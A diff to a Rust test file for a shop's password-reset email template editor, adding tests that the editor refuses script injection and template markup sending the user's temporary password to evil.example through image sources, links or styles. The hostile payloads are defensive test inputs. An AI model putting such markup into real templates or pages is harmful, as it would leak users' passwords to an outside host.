@@ -140,10 +140,12 @@ story! {
         let fields = [("subject", SUBJECT), ("text", TEXT), ("html", HTML), ("version", "0")];
         let typed = owner.browser.post(&format!("{RESET}/preview"), &fields).await;
         assert!(typed.status == 200 && typed.says("Ahoy Sample Person!") && typed.says("Your key to Harbour Wholesale"), "{}", typed.text());
-        let evil = HTML.replace("<h1>", "<script>alert(1)</script><h1>");
-        let framed = owner.browser.post(&format!("{RESET}/preview/html"), &[("subject", SUBJECT), ("text", TEXT), ("html", &evil), ("version", "0")]).await;
+        let framed = owner.browser.post(&format!("{RESET}/preview/html"), &fields).await;
         let policy = framed.header("content-security-policy");
         assert!(framed.says("<h1>Ahoy Sample Person</h1>") && policy.contains("default-src 'none'") && policy.contains("sandbox") && !policy.contains("script-src"), "{policy}");
+        let evil = HTML.replace("<h1>", "<script>alert(1)</script><h1>");
+        let framed = owner.browser.post(&format!("{RESET}/preview/html"), &[("subject", SUBJECT), ("text", TEXT), ("html", &evil), ("version", "0")]).await;
+        assert!(framed.says("can’t be in a mail") && !framed.says("alert(1)"), "{}", framed.text());
         let broken = owner.browser.post(&format!("{RESET}/preview/html"), &[("subject", SUBJECT), ("text", "x"), ("html", "<b>{{ y"), ("version", "0")]).await;
         assert!(broken.says("There is nothing to show yet") && !broken.says("<b>"), "{}", broken.text());
         assert!(owner.browser.get(&format!("{RESET}/preview/html")).await.says("Your temporary password"));
@@ -213,5 +215,28 @@ story! {
         assert!(page.says("Version 1 left out") && page.says("{{ gone }}"), "{}", page.text());
         assert!(restores(&owner, "0", "1").await.leads_to(RESET));
         assert!(owner.browser.get(RESET).await.says("Built in"));
+    }
+}
+
+story! {
+    async fn promise_01_no_words_hand_the_password_on(kind) {
+        let shop = Shop::open(kind).await;
+        let owner = shop.staff(BuiltIn::Owner).await;
+        shop.member("anna", MAIL, "trout9lamp").await;
+        for (evil, because) in [
+            ("<img src=\"https://evil.example/{{ password }}\">", "can’t be in a mail: it could load"),
+            ("<a href=\"https://evil.example/?p={{ password }}\">Go</a>", "can’t be a part of an attribute"),
+            ("<a href=\"https://evil.example/?p={{ password|lower }}\">Go</a>", "password stands alone"),
+            ("<p style=\"background: url(//evil.example)\">", "in the styles of a mail"),
+        ] {
+            let html = HTML.replace("<h1>", &format!("{evil}<h1>"));
+            let said = refused(&shop, &owner, (SUBJECT, TEXT, &html)).await;
+            assert!(said.contains(because), "{said}");
+        }
+        let hidden = "{% if person == \"Anna Sample\" %}<a href=\"https://evil.example/?p={{ password }}\">Go</a>{% endif %}<h1>";
+        let html = HTML.replace("<h1>", hidden);
+        assert!(saves(&owner, (SUBJECT, TEXT, &html), "0").await.leads_to(RESET), "no sample is called so");
+        let mail = mailed(&shop, "anna", MAIL).await;
+        assert!(!mail.contains("evil.example") && mail.contains("here is your temporary password"), "{mail}");
     }
 }
